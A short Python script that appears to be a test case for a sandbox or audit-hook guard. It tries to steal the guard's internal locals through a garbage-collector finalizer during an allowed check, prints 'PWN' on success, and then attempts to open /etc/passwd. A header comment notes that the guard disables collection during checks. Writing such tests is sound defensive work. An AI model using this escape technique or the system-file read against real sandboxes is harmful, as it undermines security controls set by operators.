# a finalizer the collector runs while the guard checks an allowed event (typing.overload reads __code__) captures the check's locals with locals() (a C chain, no event): the collector is off during checks
# guard: open
import functools, typing
box = []
grab = functools.partial(next, map(box.append, iter(locals, None)))


class Trap:
    pass


Trap.__del__ = grab


def f():
    pass


for attempt in range(20):
    keep = []
    t = Trap(); t.me = t; del t
    for j in range(3000):
        keep.append([])
        typing.overload(f)
    for d in box:
        if 'here' in d or 'refuse' in d or 'allowed' in d or 'event' in d:
            print('PWN', sorted(d)[:10])
    box.clear()
open('/etc/passwd')
